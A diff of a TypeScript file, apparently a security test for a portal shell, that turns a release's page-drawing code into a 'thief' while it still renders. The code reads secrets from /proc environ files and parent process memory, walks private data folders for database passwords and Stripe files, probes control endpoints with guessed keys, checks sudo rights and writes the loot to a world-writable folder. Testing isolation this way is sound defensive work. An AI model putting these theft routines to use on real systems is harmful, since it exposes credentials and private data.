@@ -1,14 +1,14 @@
-// Code that a team could release, and that steals what it can where its pages are drawn.
+// Code that a team could release, and that steals what it can while its pages are drawn.
 import type { anotherVersion } from '@portal/shell/test/released'
 
-/** What there is to steal, and where. */
+/** What can be stolen, and where. */
 export interface Treasure {
-  /** As they are in an environment or a memory. */
+  /** As they appear in an environment or in memory. */
   secrets: string[]
   dataDir: string
-  /** Of the database in DATA_DIR, without a password. */
+  /** The database in DATA_DIR, without a password. */
   databaseUrl: string
-  /** Calls of the stand-ins' controls, with each key that could be guessed. */
+  /** The control calls of the stand-ins, with each key that could be guessed. */
   controls: { url: string; method: string; keys: string[]; body?: string }[]
   /** A folder that everyone may write to. */
   lootFolder: string
@@ -30,7 +30,7 @@ type Theft =
   | 'controls of a stand-in'
   | 'the rights of sudo'
 
-/** Runs inside the release, so it can use nothing but what it is given and what Bun has. */
+/** Runs inside the release, so it can only use its argument and what Bun has. */
 const steal = async (treasure: Treasure): Promise<void> => {
   const fs = await import('node:fs')
   const { join, basename } = await import('node:path')
@@ -50,14 +50,16 @@ const steal = async (treasure: Treasure): Promise<void> => {
     list('/proc').some(name => /^\d+$/.test(name) && isSecret(read(`/proc/${name}/environ`)))
   const stealMemory = () => {
     const memory = quietly(() => fs.openSync(`/proc/${process.ppid}/mem`, 'r'))
-    return memory !== undefined
+    // The process that draws other apps is as open as this one: if its user owns it, to all of that user's processes.
+    const isOpen = quietly(() => fs.statSync('/proc/self/mem').uid) === process.getuid?.()
+    return memory !== undefined || isOpen
   }
   const filesIn = (folder: string): string[] =>
     list(folder).flatMap(name => {
       const path = join(folder, name)
       return quietly(() => fs.statSync(path))?.isDirectory() ? filesIn(path) : [path]
     })
-  // Also by their names: a folder that cannot be listed can be passed through.
+  // Also by name: a folder that cannot be listed can still be passed through.
   const known = ['postgres/password', 'postgres/data/PG_VERSION', 'stripe/stripe.sqlite', 'stripe/port']
   const isPrivate = (path: string) => !path.startsWith(join(treasure.dataDir, 'releases'))
   const stealFiles = () =>
@@ -105,7 +107,7 @@ const steal = async (treasure: Treasure): Promise<void> => {
   fs.renameSync(`${path}.part`, `${path}.json`)
 }
 
-/** What makes a thief of the code that draws a release; it draws all the same. */
+/** Turns a release's drawing code into a thief that still draws. */
 export const asThief =
   (treasure: Treasure): Parameters<typeof anotherVersion>[2] =>
   text =>
